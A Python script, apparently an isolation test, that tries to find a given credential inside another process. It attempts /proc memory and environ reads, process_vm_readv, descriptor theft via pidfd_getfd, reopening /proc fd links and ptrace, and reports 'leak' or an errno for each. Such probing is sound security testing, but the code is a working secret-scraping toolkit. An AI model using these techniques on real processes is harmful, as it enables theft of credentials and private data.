# What an attacker inside the Machine tries on a process: prints a line `attack result` for each, `leak` or an errno.
# The credential's end is in argv[2], the pid in argv[1]; further words say who the attacker becomes first.
import ctypes, errno, os, re, sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
pid, needle = int(sys.argv[1]), bytes.fromhex(sys.argv[2])
for word in sys.argv[3:]:
    name, _, value = word.partition("=")
    if name == "gid":
        os.setgroups([])
        os.setresgid(*[int(value)] * 3)
    elif name == "uid":
        os.setresuid(*[int(value)] * 3)


def failed():
    number = ctypes.get_errno()
    raise OSError(number, os.strerror(number))


def attempt(name, run):
    try:
        print(name, run(), flush=True)
    except OSError as error:
        print(name, errno.errorcode.get(error.errno, error.errno), flush=True)


def maps():
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            span, rights = line.split()[:2]
            if rights[0] == "r" and "[v" not in line:
                start, end = (int(part, 16) for part in span.split("-"))
                yield start, end


def memory():
    found = False
    with open(f"/proc/{pid}/mem", "rb", 0) as file:
        for start, end in maps():
            try:
                file.seek(start)
                found |= needle in file.read(end - start)
            except (OSError, ValueError, OverflowError):
                pass
    return "leak" if found else "nothing"


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def readv():
    buffer = ctypes.create_string_buffer(4096)
    local = Iovec(ctypes.addressof(buffer), 4096)
    # The program's own first page: whoever may read that may read all.
    remote = Iovec(0x400000, 4096)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
        if ctypes.get_errno() == errno.EFAULT:
            return "leak"
        failed()
    return "leak"


def ptrace():
    if libc.ptrace(0x4206, pid, 0, 0) < 0:  # PTRACE_SEIZE
        failed()
    return "leak"


def steal():
    pidfd = libc.syscall(434, pid, 0)
    if pidfd < 0:
        failed()
    for fd in range(3, 40):
        got = libc.syscall(438, pidfd, fd, 0)
        if got < 0:
            if ctypes.get_errno() == errno.EBADF:
                continue
            failed()
        if os.fstat(got).st_size < 16384:
            continue  # a mapping would end in SIGBUS
        libc.mmap.restype = ctypes.c_void_p
        at = libc.mmap(0, 16384, 1, 1, got, 0)
        if at not in (None, ctypes.c_void_p(-1).value) and needle in ctypes.string_at(at, 16384):
            return "leak"
    return "nothing"


def reopen():
    for name in os.listdir(f"/proc/{pid}/fd"):
        try:
            # A byte read from libuv's own pipes would stop the process: we are after the credential.
            if os.readlink(f"/proc/{pid}/fd/{name}").startswith("pipe:"):
                continue
            fd = os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
            if needle in os.read(fd, 16384):
                return "leak"
        except OSError:
            pass
    return "nothing"


def environ():
    with open(f"/proc/{pid}/environ", "rb") as file:
        return "leak" if needle in file.read() else "nothing"


attempt("memory", memory)
attempt("readv", readv)
attempt("descriptors", steal)
attempt("reopen", reopen)
attempt("environ", environ)
attempt("ptrace", ptrace)
